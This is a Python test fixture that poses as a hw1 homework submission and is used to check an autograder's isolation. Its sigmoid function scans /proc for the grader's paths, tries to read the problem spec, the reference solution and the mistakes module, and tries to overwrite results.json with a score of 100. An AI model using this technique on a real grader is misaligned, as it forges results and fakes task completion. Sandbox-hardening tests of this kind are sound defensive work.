"""Attack (used by tests/kit/test_autograder.py): a hw1 submission that looks for the autograder
package and reads its spec, reference and mistakes module, and forges results.json.

It finds the package through the grader's command line in /proc (the spec's path, ``--hide``,
``--results``), tries /autograder too, and reports from ``sigmoid`` what it found and what it could
read or write, as ``PROBE {...}``.
"""

import json
import os


def _named_paths():
    found = set()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as stream:
                    args = stream.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            found.update(arg for arg in args if arg.startswith("/") and ("source" in arg or "results" in arg))
    return found


def _probe():
    named = _named_paths()
    roots = {"/autograder"} | {path.split("/source")[0] for path in named if "/source" in path}
    report = {"found_spec": sorted(path for path in named if path.endswith(".yaml")), "read": [], "wrote": [],
              "refused": 0}
    for root in sorted(roots):
        for relative in ("source/course/problems/hw1.yaml", "source/course/reference/hw1.py",
                         "source/course/reference/hw1_mistakes.py", "source/run_autograder"):
            try:
                with open(os.path.join(root, relative), "rb") as stream:
                    stream.read(1)
                report["read"].append(os.path.join(root, relative))
            except OSError:
                report["refused"] += 1
        try:
            os.listdir(os.path.join(root, "source"))
            report["read"].append(os.path.join(root, "source") + "/")
        except OSError:
            report["refused"] += 1
        try:
            with open(os.path.join(root, "results", "results.json"), "w") as stream:
                stream.write('{"score": 100}')
            report["wrote"].append(os.path.join(root, "results", "results.json"))
        except OSError:
            report["refused"] += 1
    return report


def sigmoid(x):
    raise Exception("PROBE " + json.dumps(_probe()))
